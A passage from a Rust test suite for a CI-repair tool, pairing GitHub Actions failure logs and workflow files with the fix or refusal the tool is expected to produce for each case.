            "on: push\njobs:\n  test:\n    name: Test ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "Test coverage",
        step: "Docs",
        lines: PANDOC_MISSING,
        want: Want::Declined(""),
    },
];

#[test]
fn round_three_shapes_get_the_right_fix_or_a_reasoned_refusal() {
    assert_round(ROUND_3);
}

// ---- round 4: shapes rounds 1-3 did not cover (issue 12 Part C), written
// and committed before any run; each outcome from issue 12's definitions ----

const NO_YAML_IN_BACKEND: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "ImportError while loading conftest '/home/runner/work/app/app/backend/tests/conftest.py'.",
    "tests/conftest.py:3: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 4.",
];

const NO_CV2: &[&str] = &[
    "##[group]Run python scripts/thumbnails.py",
    "python scripts/thumbnails.py",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Traceback (most recent call last):",
    "  File \"/home/runner/work/app/app/scripts/thumbnails.py\", line 2, in <module>",
    "    import cv2",
    "ModuleNotFoundError: No module named 'cv2'",
    "##[error]Process completed with exit code 1.",
];

const NO_DISTUTILS_312: &[&str] = &[
    "##[group]Run python setup.py build_ext --inplace",
    "python setup.py build_ext --inplace",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "Traceback (most recent call last):",
    "  File \"/home/runner/work/ext/ext/setup.py\", line 1, in <module>",
    "    from distutils.core import setup",
    "ModuleNotFoundError: No module named 'distutils'",
    "##[error]Process completed with exit code 1.",
];

const NO_OWN_PACKAGE: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "##[endgroup]",
    "tests/test_api.py:1: in <module>",
    "    from acme_api.routes import app",
    "E   ModuleNotFoundError: No module named 'acme_api'",
    "##[error]Process completed with exit code 2.",
];

const XVFB_MISSING: &[&str] = &[
    "##[group]Run xvfb-run -a npm run test:e2e",
    "xvfb-run -a npm run test:e2e",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/0c1d2e3f.sh: line 1: xvfb-run: command not found",
    "##[error]Process completed with exit code 127.",
];

const PANDOC_NOT_RECOGNIZED_WINDOWS_LEG: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"",
    "##[endgroup]",
    "pandoc: D:\\a\\_temp\\2a3b4c5d-6e7f-8091-a2b3-c4d5e6f70819.ps1:2",
    "Line |",
    "   2 |  pandoc README.md -o out.html",
    "     |  ~~~~~~",
    "     | The term 'pandoc' is not recognized as a name of a cmdlet, function, script file, or executable program.",
    "     | Check the spelling of the name, or if a path was included, verify that the path is correct and try again.",
    "##[error]Process completed with exit code 1.",
];

const CARGO_MISSING_IN_PYTHON_CONTAINER: &[&str] = &[
    "##[group]Run cargo build --release",
    "cargo build --release",
    "shell: sh -e {0}",
    "##[endgroup]",
    "/__w/_temp/7e6d5c4b.sh: 1: cargo: not found",
    "##[error]Process completed with exit code 127.",
];

const CALLEE_STEP_TIMED_OUT_15: &[&str] = &[
    "##[group]Run make e2e",
    "make e2e",
    "##[endgroup]",
    "ok   e2e/login  301.0s",
    "##[error]The action 'E2E' has timed out after 15 minutes.",
];

const TIMED_OUT_60: &[&str] = &[
    "##[group]Run make test",
    "make test",
    "##[endgroup]",
    "ok   pkg/a  12.1s",
    "##[error]The job running on runner GitHub Actions 9 has exceeded the maximum execution time of 60 minutes.",
];

const MSTEST_FILE_NOT_FOUND: &[&str] = &[
    "##[group]Run dotnet test --configuration Release",
    "dotnet test --configuration Release",
    "shell: C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"",
    "##[endgroup]",
    "  Failed LoadsSettings [14 ms]",
    "  Error Message:",
    "   Test method Acme.Tests.SettingsTests.LoadsSettings threw exception: ",
    "System.IO.FileNotFoundException: Could not find file 'D:\\a\\acme\\acme\\tests\\Acme.Tests\\bin\\Release\\net8.0\\settings.json'.",
    "  Stack Trace:",
    "      at Acme.Tests.SettingsTests.LoadsSettings() in D:\\a\\acme\\acme\\tests\\Acme.Tests\\SettingsTests.cs:line 21",
    "",
    "Failed!  - Failed:     1, Passed:    40, Skipped:     0, Total:    41, Duration: 2 s - Acme.Tests.dll (net8.0)",
    "##[error]Process completed with exit code 1.",
];

const CHANGELOG_MOVED: &[&str] = &[
    "##[group]Run cp docs/CHANGELOG.md site/",
    "cp docs/CHANGELOG.md site/",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "cp: cannot stat 'docs/CHANGELOG.md': No such file or directory",
    "##[error]Process completed with exit code 1.",
];

const TAR_DIST_MISSING: &[&str] = &[
    "##[group]Run tar czf app.tgz dist",
    "tar czf app.tgz dist",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "tar: dist: Cannot stat: No such file or directory",
    "tar: Exiting with failure status due to previous errors",
    "##[error]Process completed with exit code 2.",
];

const DOCKER_BUILD_TEST_FAILS_DIGEST_E429: &[&str] = &[
    "##[group]Run docker build -t app .",
    "docker build -t app .",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "#5 [2/4] COPY package.json package-lock.json ./",
    "#5 DONE 0.1s",
    "#6 [3/4] RUN npm ci",
    "#6 sha256:9f2e4291ab0c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6 2.1MB / 2.1MB done",
    "#6 DONE 14.2s",
    "#7 [4/4] RUN npm test",
    "#7 1.912 Tests: 1 failed, 88 passed, 89 total",
    "#7 ERROR: process \"/bin/sh -c npm test\" did not complete successfully: exit code: 1",
    "ERROR: failed to solve: process \"/bin/sh -c npm test\" did not complete successfully: exit code: 1",
    "##[error]Process completed with exit code 1.",
];

const GO_PROXY_429: &[&str] = &[
    "##[group]Run go mod download",
    "go mod download",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "go: github.com/spf13/cobra@v1.8.1: reading https://proxy.golang.org/github.com/spf13/cobra/@v/v1.8.1.zip: 429 Too Many Requests",
    "##[error]Process completed with exit code 1.",
];

const NUMPY_ABI_CV2: &[&str] = &[
    "##[group]Run python -c \"import cv2\"",
    "python -c \"import cv2\"",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "",
    "A module that was compiled using NumPy 1.x cannot be run in",
    "NumPy 2.1.3 as it may crash. To support both 1.x and 2.x",
    "versions of NumPy, modules must be compiled with NumPy 2.0.",
    "Some module may need to rebuild instead e.g. with 'pybind11>=2.12'.",
    "",
    "If you are a user of the module, the easiest solution will be to",
    "downgrade to 'numpy<2' or try to upgrade the affected module.",
    "We expect that some modules will need time to support NumPy 2.",
    "",
    "Traceback (most recent call last):  File \"<string>\", line 1, in <module>",
    "AttributeError: _ARRAY_API not found",
    "ImportError: numpy.core.multiarray failed to import",
    "##[error]Process completed with exit code 1.",
];

const POETRY_SOLVER: &[&str] = &[
    "##[group]Run poetry install --no-interaction",
    "poetry install --no-interaction",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Updating dependencies",
    "Resolving dependencies...",
    "",
    "  SolverProblemError",
    "",
    "  Because acme depends on both pydantic (^1.10) and fastapi (0.115.0) which depends on pydantic (>=2.0), version solving failed.",
    "##[error]Process completed with exit code 1.",
];

const LOST_ARM_SELF_HOSTED: &[&str] = &[
    "##[group]Run make",
    "make",
    "##[endgroup]",
    "##[error]The self-hosted runner: pi-arm64-2 lost communication with the server. Verify the machine is running and has a healthy network connection. Anything in your workflow that terminates the runner process, starves it for CPU/Memory, or blocks its network access can cause this error.",
];

const CALLEE_WITH_STEP_INPUT: &str = "on:\n  workflow_call:\n    inputs:\n      e2e-timeout:\n        type: number\n        default: 15\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: E2E\n        timeout-minutes: ${{ inputs.e2e-timeout }}\n        run: make e2e\n";
const CALLEE_WITH_JOB_INPUT: &str = "on:\n  workflow_call:\n    inputs:\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n";
const TEST_YML4: &str = ".github/workflows/test.yml";

const ROUND_4: &[Case] = &[
    // ---- missing modules ----
    Case {
        name: "yaml missing where the job's default working directory holds the requirements",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: backend\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n      - run: python -m pytest\n",
            ),
            ("backend/requirements.txt", "pytest==8.3.3\nrequests\n"),
            ("backend/tests/conftest.py", "import yaml\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run python -m pytest",
        lines: NO_YAML_IN_BACKEND,
        // Corrected after the first run: extending the project's install line rewrites it.
        want: Want::Fix {
            files: &[CI, "backend/requirements.txt"],
            adds: &["PyYAML"],
            removes: &["pip install -r requirements.txt"],
        },
    },
    Case {
        name: "cv2 missing: the distribution is opencv-python, not cv2",
        files: &[
            (
                CI,
                "on: push\njobs:\n  thumbs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n      - run: python scripts/thumbnails.py\n",
            ),
            ("requirements.txt", "pillow\n"),
        ],
        workflow: Some(CI),
        job: "thumbs",
        step: "Run python scripts/thumbnails.py",
        lines: NO_CV2,
        want: Want::Without(&either(&[CI, "requirements.txt"], &["opencv-python"]), &["cv2"]),
    },
    Case {
        name: "distutils missing on Python 3.12 (gone from the standard library; setuptools provides it)",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: python setup.py build_ext --inplace\n",
        )],
        workflow: Some(CI),
        job: "build",
        step: "Run python setup.py build_ext --inplace",
        lines: NO_DISTUTILS_312,
        want: Want::Without(&either(&[CI], &["setuptools"]), &["install distutils"]),
    },
    Case {
        name: "the project's own package not importable (src layout, not installed): no install of a namesake",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install pytest\n      - run: python -m pytest\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"acme-api\"\nversion = \"0.1.0\"\n",
            ),
            ("src/acme_api/__init__.py", ""),
            ("src/acme_api/routes.py", "app = None\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run python -m pytest",
        lines: NO_OWN_PACKAGE,
        want: Want::Without(
            &either(&[CI], &["pip install -e ."]),
            &["install acme_api", "install acme-api"],
        ),
    },
    // ---- missing commands ----
    Case {
        name: "xvfb-run missing on hosted Ubuntu before Playwright-style e2e tests",
        files: &[(
            CI,
            "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: xvfb-run -a npm run test:e2e\n",
        )],
        workflow: Some(CI),
        job: "e2e",
        step: "Run xvfb-run -a npm run test:e2e",
        lines: XVFB_MISSING,
        want: fix(&[CI], &["xvfb"]),
    },
    Case {
        name: "pandoc missing on the Windows leg while the install step is guarded to Linux",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install pandoc\n        if: runner.os == 'Linux'\n        run: sudo apt-get install -y pandoc\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs (windows-latest)",
        step: "Docs",
        lines: PANDOC_NOT_RECOGNIZED_WINDOWS_LEG,
        want: Want::Without(
            &fix(&[CI], &["choco install -y pandoc", "runner.os == 'Windows'"]),
            &["apt-get"],
        ),
    },
    Case {
        name: "cargo missing in a python:3.12-slim container job (no toolchain in the image)",
        files: &[(
            CI,
            "on: push\njobs:\n  wheel:\n    runs-on: ubuntu-latest\n    container: python:3.12-slim\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo build --release\n",
        )],
        workflow: Some(CI),
        job: "wheel",
        step: "Run cargo build --release",
        lines: CARGO_MISSING_IN_PYTHON_CONTAINER,
        want: Want::Without(&either(&[CI], &["rust"]), &["sudo "]),
    },
    // ---- time limits through a caller ----
    Case {
        name: "a called step's limit is an input the caller passes as a literal",
        files: &[
            (
                CI,
                "on: push\njobs:\n  e2e:\n    uses: ./.github/workflows/test.yml\n    with:\n      e2e-timeout: 15\n",
            ),
            (TEST_YML4, CALLEE_WITH_STEP_INPUT),
        ],
        workflow: Some(CI),
        job: "e2e / test",
        step: "E2E",
        lines: CALLEE_STEP_TIMED_OUT_15,
        want: Want::Fix {
            files: &[CI],
            adds: &["e2e-timeout: 30"],
            removes: &["e2e-timeout: 15"],
        },
    },
    Case {
        name: "two callers of one callee with different literals: only the one that timed out is raised",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n    with:\n      timeout: 30\n  slow:\n    uses: ./.github/workflows/test.yml\n    with:\n      timeout: 60\n",
            ),
            (TEST_YML4, CALLEE_WITH_JOB_INPUT),
        ],
        workflow: Some(CI),
        job: "slow / test",
        step: "Run make test",
        lines: TIMED_OUT_60,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout: 120"],
            removes: &["timeout: 60"],
        },
    },
    Case {
        name: "a callee's input limit the caller sets from a repository variable",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n    with:\n      timeout: ${{ vars.TEST_TIMEOUT }}\n",
            ),
            (TEST_YML4, CALLEE_WITH_JOB_INPUT),
        ],
        workflow: Some(CI),
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Declined(""),
    },
    Case {
        name: "a callee limit computed from its input (`inputs.timeout * 2`)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n    with:\n      timeout: 15\n",
            ),
            (
                TEST_YML4,
                "on:\n  workflow_call:\n    inputs:\n      timeout:\n        type: number\n        default: 15\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout * 2 }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
        ],
        workflow: Some(CI),
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Declined(""),
    },
    // ---- missing files ----
    Case {
        name: "a test's own FileNotFoundException under MSTest on Windows (a file of the same name in the repository)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-dotnet@v4\n        with:\n          dotnet-version: 8.0.x\n      - run: dotnet test --configuration Release\n",
            ),
            ("tests/Acme.Tests/data/settings.json", "{}\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run dotnet test --configuration Release",
        lines: MSTEST_FILE_NOT_FOUND,
        want: Want::Declined(""),
    },
    Case {
        // Out of docs/ to the root is a guess (display-only): listed by `autoheal
        // diagnose`, never applied by `fix --write` or heal.
        name: "a file moved from docs/ to the repository root: offered, not applied",
        files: &[
            (
                CI,
                "on: push\njobs:\n  site:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: mkdir -p site\n      - run: cp docs/CHANGELOG.md site/\n",
            ),
            ("CHANGELOG.md", "# Changelog\n"),
            ("docs/index.md", "# Docs\n"),
        ],
        workflow: Some(CI),
        job: "site",
        step: "Run cp docs/CHANGELOG.md site/",
        lines: CHANGELOG_MOVED,
        want: Want::Declined("only a doubtful fix exists"),
    },
    Case {
        name: "a build output directory (dist) that no step built",
        files: &[(
            CI,
            "on: push\njobs:\n  pack:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: tar czf app.tgz dist\n",
        )],
        workflow: Some(CI),
        job: "pack",
        step: "Run tar czf app.tgz dist",
        lines: TAR_DIST_MISSING,
        want: Want::Declined(""),
    },
    // ---- rate limits and their look-alikes ----
    Case {
        name: "a failing test inside docker build whose layer digest holds `e429`",
        files: &[(
            CI,
            "on: push\njobs:\n  image:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: docker build -t app .\n",
        )],
        workflow: Some(CI),
        job: "image",
        step: "Run docker build -t app .",
        lines: DOCKER_BUILD_TEST_FAILS_DIGEST_E429,
        want: Want::Declined(""),
    },
    Case {
        name: "the Go module proxy's 429 in a step that only downloads modules",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n        with:\n          go-version: '1.23'\n      - run: go mod download\n      - run: go build ./...\n",
        )],
        workflow: Some(CI),
        job: "build",
        step: "Run go mod download",
        lines: GO_PROXY_429,
        // Corrected after the first run: a retry loop replaces the `run:` line it wraps.
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["go mod download"],
                removes: &["run: go mod download"],
            },
            &["go build"],
        ),
    },
    // ---- failures for a person ----
    Case {
        name: "NumPy 2 refusing an extension built for NumPy 1.x (no install fixes it)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  smoke:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n      - run: python -c \"import cv2\"\n",
            ),
            ("requirements.txt", "opencv-python==4.8.0.74\nnumpy\n"),
        ],
        workflow: Some(CI),
        job: "smoke",
        step: "Run python -c \"import cv2\"",
        lines: NUMPY_ABI_CV2,
        want: Want::Declined(""),
    },
    Case {
        name: "Poetry's solver refusing conflicting constraints",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pipx install poetry\n      - run: poetry install --no-interaction\n      - run: poetry run pytest\n",
            ),
            ("pyproject.toml", "[tool.poetry]\nname = \"acme\"\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run poetry install --no-interaction",
        lines: POETRY_SOLVER,
        want: Want::Declined(""),
    },
    // ---- runners ----
    Case {
        name: "a self-hosted arm64 leg of a name-templated matrix job lost its runner; nothing needs the job",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    name: Build ${{ matrix.arch }}\n    strategy:\n      matrix:\n        arch: [x64, arm64]\n    runs-on: ${{ matrix.arch == 'arm64' && fromJSON('[\"self-hosted\", \"linux\", \"arm64\"]') || 'ubuntu-latest' }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "Build arm64",
        step: "Run make",
        lines: LOST_ARM_SELF_HOSTED,
        want: either(&[CI], &["continue-on-error"]),
    },
];

#[test]
fn round_four_shapes_get_the_right_fix_or_a_reasoned_refusal() {
    assert_round(ROUND_4);
}

// ---- round 5 (2026-12-06, tenth session; `diagfix7`) ----
//
// Written and committed before any run, each outcome decided from issue
// 12's definitions: matrix legs from `include` and `exclude`, a composite
// action in the repository, a reusable workflow's caller, a step's own
// `working-directory`, `defaults.run.shell`, Windows pwsh and cmd steps, a
// `needs` chain, a step with `if:`, service containers, self-hosted labels,
// WSL's shell, and traps where no fix is right (cmd reading a path as a
// command, a concurrency cancel, a service that did not start, a job image
// from the matrix).

const PANDOC_MACOS: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: /bin/bash -e {0}",
    "##[endgroup]",
    "/Users/runner/work/_temp/0c1d2e3f-4a5b-6c7d-8e9f-a0b1c2d3e4f5.sh: line 1: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const SHELLCHECK_GIT_BASH: &[&str] = &[
    "##[group]Run shellcheck scripts/*.sh",
    "shellcheck scripts/*.sh",
    "shell: C:\\Program Files\\Git\\bin\\bash.EXE --noprofile --norc -e -o pipefail {0}",
    "##[endgroup]",
    "/d/a/_temp/7e8f9a0b-1c2d-3e4f-5a6b-7c8d9e0f1a2b.sh: line 1: shellcheck: command not found",
    "##[error]Process completed with exit code 127.",
];

const XMLLINT_IN_COMPOSITE: &[&str] = &[
    "##[group]Run xmllint --noout docs/*.xml",
    "xmllint --noout docs/*.xml",
    "shell: /usr/bin/bash --noprofile --norc -e -o pipefail {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/3f4e5d6c-7b8a-9f0e-1d2c-3b4a5f6e7d8c.sh: line 1: xmllint: command not found",
    "##[error]Process completed with exit code 127.",
];

const NO_JSONSCHEMA: &[&str] = &[
    "##[group]Run python scripts/check_schema.py",
    "python scripts/check_schema.py",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Traceback (most recent call last):",
    "  File \"/home/runner/work/app/app/scripts/check_schema.py\", line 3, in <module>",
    "    import jsonschema",
    "ModuleNotFoundError: No module named 'jsonschema'",
    "##[error]Process completed with exit code 1.",
];

const DEV_REQUIREMENTS_MISSING: &[&str] = &[
    "##[group]Run pip install -r requirements-dev.txt",
    "pip install -r requirements-dev.txt",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'",
    "##[error]Process completed with exit code 1.",
];

const PANDOC_PWSH_LINUX: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: /usr/bin/pwsh -command \". '{0}'\"",
    "##[endgroup]",
    "pandoc: /home/runner/work/_temp/9a8b7c6d-5e4f-3a2b-1c0d-9e8f7a6b5c4d.ps1:2",
    "Line |",
    "   2 |  pandoc README.md -o out.html",
    "     |  ~~~~~~",
    "     | The term 'pandoc' is not recognized as a name of a cmdlet, function, script file, or executable program.",
    "     | Check the spelling of the name, or if a path was included, verify that the path is correct and try again.",
    "##[error]Process completed with exit code 1.",
];

const CMD_NODE_MODULES_PATH: &[&str] = &[
    "##[group]Run node_modules/.bin/eslint .",
    "node_modules/.bin/eslint .",
    "shell: C:\\Windows\\system32\\cmd.EXE /D /E:ON /V:OFF /S /C \"CALL \"{0}\"\"",
    "##[endgroup]",
    "'node_modules' is not recognized as an internal or external command,",
    "operable program or batch file.",
    "##[error]Process completed with exit code 1.",
];

const CMD_PANDOC: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: C:\\Windows\\system32\\cmd.EXE /D /E:ON /V:OFF /S /C \"CALL \"{0}\"\"",
    "##[endgroup]",
    "'pandoc' is not recognized as an internal or external command,",
    "operable program or batch file.",
    "##[error]Process completed with exit code 1.",
];

const INTEGRATION_TIMED_OUT_20: &[&str] = &[
    "##[group]Run npm run test:integration",
    "npm run test:integration",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "> app@1.4.0 test:integration",
    "> vitest run --config vitest.integration.ts",
    " ✓ tests/integration/orders.test.ts (12 tests) 48312ms",
    "##[error]The job running on runner GitHub Actions 3 has exceeded the maximum execution time of 20 minutes.",
];

const PROTOC_MISSING: &[&str] = &[
    "##[group]Run protoc --go_out=. api/*.proto",
    "protoc --go_out=. api/*.proto",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/1b2c3d4e-5f6a-7b8c-9d0e-1f2a3b4c5d6e.sh: line 1: protoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const REDIS_CLI_MISSING: &[&str] = &[
    "##[group]Run redis-cli -h localhost ping",
    "redis-cli -h localhost ping",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/6c5b4a3f-2e1d-0c9b-8a7f-6e5d4c3b2a1f.sh: line 1: redis-cli: command not found",
    "##[error]Process completed with exit code 127.",
];

const PANDOC_SELF_HOSTED: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/opt/actions-runner/_work/_temp/5d6e7f8a-9b0c-1d2e-3f4a-5b6c7d8e9f0a.sh: line 1: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const CANCELED_BY_CONCURRENCY: &[&str] = &[
    "##[group]Run npm test",
    "npm test",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "> app@1.4.0 test",
    "> vitest run",
    " ✓ tests/unit/cart.test.ts (31 tests) 912ms",
    "##[error]The operation was canceled.",
];

const SERVICE_FAILED: &[&str] = &[
    "##[group]Starting postgres service container",
    "/usr/bin/docker pull postgres:16",
    "16: Pulling from library/postgres",
    "Digest: sha256:4ec37d2a07a0067f176fdcc9d4bb633a5724d2cc4f892c7a2046d054bb6939e5",
    "Status: Downloaded newer image for postgres:16",
    "/usr/bin/docker create --name 9f3c2b1a0e4d4b5c8a7e6d5c4b3a2f1e_postgres16_a1b2c3 --label 1f2e3d --network github_network_0a1b2c3d --network-alias postgres -p 5432:5432 --health-cmd pg_isready --health-interval 10s --health-timeout 5s --health-retries 5 -e \"POSTGRES_PASSWORD=postgres\" -e GITHUB_ACTIONS=true -e CI=true postgres:16",
    "5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f",
    "/usr/bin/docker start 5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f",
    "5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f",
    "/usr/bin/docker ps --all --filter id=5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f --filter status=running --no-trunc --format \"{{.ID}} {{.Status}}\"",
    "/usr/bin/docker inspect --format=\"{{if .Config.Healthcheck}}{{print .State.Health.Status}}{{end}}\" 5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f",
    "unhealthy",
    "##[endgroup]",
    "##[error]Failed to initialize container postgres:16",
    "##[error]One or more containers failed to start.",
];

const PANDOC_IN_WSL: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: D:\\a\\_temp\\setup-wsl-2f3e4d\\wsl-bash.bat {0}",
    "##[endgroup]",
    "/mnt/d/a/_temp/8f9e0d1c-2b3a-4f5e-6d7c-8b9a0f1e2d3c.sh: line 1: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const MAKE_IN_ALPINE_LEG: &[&str] = &[
    "##[group]Run make test",
    "make test",
    "shell: sh -e {0}",
    "##[endgroup]",
    "/__w/_temp/0a9b8c7d-6e5f-4a3b-2c1d-0e9f8a7b6c5d.sh: line 1: make: not found",
    "##[error]Process completed with exit code 127.",
];

const ROUND_5: &[Case] = &[
    // ---- matrix legs from include and exclude ----
    Case {
        name: "pandoc missing on the macOS leg of a matrix with exclude, beside a Linux-guarded install",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest, windows-latest]\n        python: ['3.9', '3.12']\n        exclude:\n          - os: windows-latest\n          - os: macos-latest\n            python: '3.9'\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install pandoc\n        if: runner.os == 'Linux'\n        run: sudo apt-get install -y pandoc\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs (macos-latest, 3.12)",
        step: "Docs",
        lines: PANDOC_MACOS,
        want: Want::Without(
            &fix(&[CI], &["brew install pandoc", "runner.os == 'macOS'"]),
            &["apt-get", "choco"],
        ),
    },
    Case {
        name: "shellcheck missing on a Windows leg that include adds, run by Git Bash",
        files: &[(
            CI,
            "on: push\njobs:\n  lint:\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n        include:\n          - os: windows-latest\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: shellcheck scripts/*.sh\n        shell: bash\n",
        )],
        workflow: Some(CI),
        job: "lint (windows-latest)",
        step: "Run shellcheck scripts/*.sh",
        lines: SHELLCHECK_GIT_BASH,
        want: Want::Without(
            &fix(&[CI], &["choco install -y shellcheck", "runner.os == 'Windows'"]),
            &["apt-get"],
        ),
    },
    Case {
        name: "lost communication on an arm64 leg that include adds (nothing needs the job)",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n        include:\n          - os: ubuntu-24.04-arm\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm)",
        step: "Run make",
        lines: &[
            "##[group]Run make",
            "make",
            "##[endgroup]",
